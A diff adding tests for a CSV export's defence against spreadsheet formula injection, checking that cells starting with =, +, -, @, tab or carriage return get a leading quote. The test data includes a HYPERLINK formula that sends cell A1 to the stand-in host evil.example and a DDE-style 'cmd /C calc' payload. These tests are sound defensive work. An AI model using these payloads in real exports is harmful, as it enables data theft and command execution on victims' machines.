@@ -79,6 +79,47 @@ describe("CSV export", () => {
   });
 });
 
+describe("CSV export of hostile text", () => {
+  const hostile = makeEvent("zoom-exit-2021", {
+    title: '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
+    summary: "+1+cmd|' /C calc'!A0",
+    date: "2021-05~",
+    confidence: 0.25,
+    counterparty: "-2+3",
+    curated: { "@SUM(1)": "x" },
+    sources: [{ id: "vi", evidence: "\t=1+1", primary: true }],
+  });
+  const named: Dataset = {
+    ...SAMPLE,
+    companies: SAMPLE.companies.map((c) => (c.id === "zoom" ? { ...c, name: "=Zoom" } : c)),
+    sources: SAMPLE.sources.map((s) => (s.id === "vi" ? { ...s, title: "\r=2" } : s)),
+  };
+  const row = csvParse(toCsv([hostile], named).slice(1))[0];
+
+  it("opens every text cell that would start a formula as text, with a leading quote", () => {
+    expect(row).toMatchObject({
+      title: `'${hostile.title}`,
+      summary: "'+1+cmd|' /C calc'!A0",
+      counterparty: "'-2+3",
+      company_names: "'=Zoom",
+      curated_fields: "'@SUM(1)",
+      source1_evidence: "'\t=1+1",
+      source1_title: "'\r=2",
+    });
+  });
+
+  it("leaves the dates, numbers and flags it writes itself, and ordinary text, unchanged", () => {
+    expect(row).toMatchObject({
+      id: "zoom-exit-2021",
+      date: "2021-05~",
+      confidence: "0.25",
+      primary: "true",
+      companies: "zoom",
+      source1_primary: "true",
+    });
+  });
+});
+
 describe("JSON export", () => {
   it("carries the dataset's fields plus each source's URL, language and evidence", () => {
     const json = JSON.parse(toJson([tricky], dataset, "?t=seller-ban&v=1"));
